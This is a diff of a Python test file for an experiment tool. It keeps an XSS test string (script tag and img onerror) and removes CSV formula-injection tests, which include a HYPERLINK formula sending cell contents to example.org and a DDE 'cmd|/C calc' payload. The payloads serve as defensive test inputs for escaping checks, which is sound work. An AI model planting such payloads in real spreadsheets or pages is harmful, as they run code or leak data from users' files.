@@ -19,12 +19,10 @@ import pytest
 import yaml
 from tiny_run import tiny_run
 
-from testbed.core.cells import guarded, unguarded
 from testbed.core.errors import InputError
 from testbed.cost.model import ALWAYS, LISTS, PREFIX
 from testbed.experiments.look.compare.cost_terms import terms
 from testbed.experiments.look.compare.finished_run import read_run
-from testbed.experiments.runs.csv_tables import csv_text, read_csv_table
 from testbed.experiments.runs.folder_contents import record_contents
 from testbed.experiments.runs.known_classes import OPTION, class_names, known_classes
 from testbed.experiments.runs.run_folder import read_config
@@ -32,7 +30,6 @@ from testbed.experiments.runs.whole_files import write_cells
 from testbed.run.identity import id_of
 
 SCRIPT = "</script><script>window.harmed = 1</script><img src=x onerror='window.harmed = 1'>\""
-FORMULA = '=HYPERLINK("http://example.org/?"&A1;"more")'
 SOURCE_TREE = Path(__file__).parents[2]
 MODEL = {
     "_target_": "testbed.core.specs.ModelSpec",
@@ -366,42 +363,3 @@ def test_a_browser_runs_no_name_in_a_page(pages_of_names, web_page):
         web_page.goto(path.as_uri())
         assert web_page.evaluate("typeof window.harmed") == "undefined", path.name
         assert web_page.evaluate("document.querySelectorAll('img').length") == 0, path.name
-
-
-TEXTS = (FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "'=1", "''@", "-")
-UNITS = ("-2 sum(1)", "+1 cmd|a", "-1 a1", "+1 points+1", "-1 points\n", "-points", "=1 points")
-
-
-@pytest.mark.parametrize("text", TEXTS + UNITS)
-def test_text_in_a_table_is_no_formula_and_is_read_back(tmp_path, text):
-    written = str(guarded(text))
-    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
-    assert unguarded(written) == text
-    path = tmp_path / "table.csv"
-    write_cells(path, {text: [text, "b"], "number": [-1, 2.5]})
-    assert path.read_bytes().startswith((b"'", b"\"'"))
-    table = read_csv_table(path)
-    assert list(table.columns) == [text, "number"]
-    assert list(table[text]) == [text, "b"]
-    assert csv_text(table).splitlines()[-1].replace('"', "") == "b,2.5"
-
-
-PLAIN = (-1, -1.5e-3, "-1", "+3.2%", "-1,234.5", "+1.57 points", "a=b", "", None, "it's")
-
-
-@pytest.mark.parametrize("value", PLAIN)
-def test_numbers_and_plain_text_in_a_table_stay_as_they_are(value):
-    assert guarded(value) is value
-    assert unguarded(value) is value
-
-
-def test_a_comparison_as_a_table_has_no_formula(testbed, finished, tmp_path):
-    for name in ("one", "two"):
-        shutil.copytree(finished, tmp_path / name)
-    os.rename(tmp_path / "one", tmp_path / "@SUM(1)")
-    testbed.done("compare", "@SUM(1)", "two", "--csv", "out.csv")
-    with (tmp_path / "out.csv").open(newline="") as file:
-        cells = {cell for row in csv.reader(file) for cell in row}
-    assert "'@SUM(1)" in cells
-    assert not any(cell.startswith(("=", "@")) for cell in cells)
-    assert "@SUM(1)" in set(read_csv_table(tmp_path / "out.csv")["run"])
